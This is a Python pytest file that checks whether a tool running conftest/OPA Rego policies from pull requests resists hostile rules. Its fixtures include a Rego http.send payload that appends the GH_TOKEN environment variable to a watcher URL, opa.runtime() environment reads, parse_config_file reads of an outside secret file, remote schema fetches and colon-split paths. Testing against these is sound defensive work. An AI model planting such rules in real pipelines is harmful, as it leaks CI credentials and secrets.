"""Rules of a pull request that would send something away, read a file, or say something else tomorrow."""

from __future__ import annotations

from itertools import product

import pytest

from tests.hostile.harness import Hostile

COMMANDS = ("check", "plan staging production", "merge 1", "bump staging web=1.2 --dry-run")
FUNCTIONS = {
    "opa.runtime": "opa.runtime().env",
    "http.send": 'http.send({"method": "get", "url": concat("", ["{url}/?", opa.runtime().env.GH_TOKEN])})',
    "net.lookup_ip_addr": 'net.lookup_ip_addr("localhost")',
    "time.now_ns": "time.now_ns()",
    "rand.intn": 'rand.intn("x", 10)',
    "uuid.rfc4122": 'uuid.rfc4122("x")',
    "io.jwt.decode_verify": 'io.jwt.decode_verify("x", {})',
    "parse_config_file": 'parse_config_file("{outside}/secret.txt")',
    "parse_combined_config_files": 'parse_combined_config_files(["{outside}/secret.txt"])',
}
RULE = 'package main\n\ndeny contains {"msg": sprintf("%v", [EXPRESSION]), "rule": "a.b"}\n'
# One is tried in `make test`, two more in `make integration`, all at night.
QUICK, SLOW = ("http.send", "merge 1"), [("opa.runtime", "plan staging production"), ("parse_config_file", "check")]


def prepared(hostile: Hostile, rule: str, command: str) -> None:
    text = rule.replace("{url}", hostile.watcher.url).replace("{outside}", str(hostile.outside))
    files = {"policies/evil.rego": text, "base/web.yaml": (hostile.root / "base/web.yaml").read_text() + "# new\n"}
    if command.startswith("merge"):
        hostile.pull(files)
    else:
        hostile.commit(files)


def _mark(case: tuple[str, str]) -> pytest.MarkDecorator:
    return pytest.mark.quick if case == QUICK else pytest.mark.slow if case in SLOW else pytest.mark.thorough


@pytest.mark.parametrize(
    ("function", "command"), [pytest.param(*case, marks=_mark(case)) for case in product(FUNCTIONS, COMMANDS)]
)
def test_a_rule_cannot_use_what_is_not_in_its_input(hostile: Hostile, function: str, command: str) -> None:
    prepared(hostile, RULE.replace("EXPRESSION", FUNCTIONS[function]), command)
    main = hostile.git("rev-parse", "main", cwd=hostile.origin)
    hostile.runs(*command.split(), code=2, says=["policies/evil.rego:3: there is no function `"])
    assert hostile.git("rev-parse", "main", cwd=hostile.origin) == main


SCHEMAS = {
    "in-a-comment": "# METADATA\n# schemas:\n# - input: {'$ref': '{url}/s.json'}\n" + RULE.partition("\n\n")[2],
    "in-a-function": RULE.partition("\n\n")[2].replace(
        "EXPRESSION", 'json.match_schema({}, {"$ref": "{url}/s.json"})'
    ),
}


@pytest.mark.parametrize("where", SCHEMAS)
@pytest.mark.parametrize("command", ["check", pytest.param("merge 1", marks=pytest.mark.thorough)])
def test_a_schema_of_a_rule_is_not_fetched(hostile: Hostile, where: str, command: str) -> None:
    rule = "package main\n\n" + SCHEMAS[where].replace("EXPRESSION", "input.x")
    prepared(hostile, rule, command)
    hostile.runs(*command.split())


@pytest.mark.parametrize("setting", ['update = "{url}/p"', 'policy = "{outside}"', 'data = ["{url}/d"]'])
def test_the_configuration_of_conftest_is_not_read(hostile: Hostile, setting: str) -> None:
    text = setting.replace("{url}", hostile.watcher.url).replace("{outside}", str(hostile.outside))
    hostile.commit({"conftest.toml": f"{text}\n", "policies/conftest.toml": f"{text}\n"})
    hostile.runs("check", code=0)


@pytest.mark.parametrize("folder", ["a:{outside}", pytest.param("a:b", marks=pytest.mark.thorough)])
def test_a_path_that_conftest_would_divide_is_refused(hostile: Hostile, folder: str) -> None:
    """Of `a:/outside/data`, conftest reads the folder `/outside/data` under the name `a`."""
    (hostile.outside / "data").mkdir()
    (hostile.outside / "data/table.yaml").write_text("table: [canary]\n")
    there = folder.replace("{outside}", str(hostile.outside))
    rules = {
        f"{there}/{name}": (hostile.root / "policies" / name).read_text() for name in ("main.rego", "evaluation.rego")
    }
    settings = (hostile.root / "promote.yaml").read_text() + f"policies: '{there}'\n"
    hostile.commit(rules | {f"{there}/data/own.yaml": "own: []\n", "promote.yaml": settings})
    hostile.runs("check", code=2, says=["with a colon in its path"])
